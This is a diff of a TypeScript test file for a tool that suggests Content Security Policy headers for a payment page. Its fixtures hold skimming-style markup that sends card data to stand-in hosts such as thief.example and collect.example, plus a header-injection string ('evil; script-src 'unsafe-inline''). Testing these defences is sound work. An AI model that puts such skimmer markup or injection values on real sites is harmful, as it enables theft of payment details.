@@ -132,7 +132,7 @@ const send = (host: string, agent: string, directive = 'connect-src') =>
 
 describe('what browsers of visitors report', () => {
   it('in a real browser with the headers that the console offers: scripts, frames, requests, and where a form sends to', async () => {
-    header = suggestPolicy(paymentPage(), [], address).observe;
+    header = suggestPolicy(paymentPage(), null, address).observe;
     body = `<script src="https://thief.example/s.js?card=4929"></script><iframe src="https://fake-pay.example/form"></iframe>
       <form method="get" action="https://collect.example/take"><input name="cc" value="1"></form>
       <script>fetch('https://beacon.example/c?d=1').catch(() => 0); setTimeout(() => document.forms[0].submit(), 600);</script>`;
@@ -224,9 +224,12 @@ describe('what browsers of visitors report', () => {
 
   it('is asked for with a policy that lists what stands on the page and nothing that could break out of the header', () => {
     const odd = { ...paymentPage(), frames: ['https://pay.example/f', 'about:srcdoc', 'https://x;script-src *.example/'] };
+    const hosts = [...paymentPage().hosts, { host: 'thief.example', party: 'third' as const, requests: 1 }];
+    expect(suggestPolicy({ ...odd, hosts }, null, 'https://b.example/').observe).toContain('thief.example');
+    expect(suggestPolicy({ ...odd, hosts }, ['pay.example'], 'https://b.example/').observe).not.toContain('thief.example');
     const { observe, enforce } = suggestPolicy(
       odd,
-      ['cdn.example', "evil; script-src 'unsafe-inline'"],
+      ['pay.example', 'cdn.example', "evil; script-src 'unsafe-inline'"],
       'https://bell.example/in/reports/x',
     );
     expect(observe).toContain(
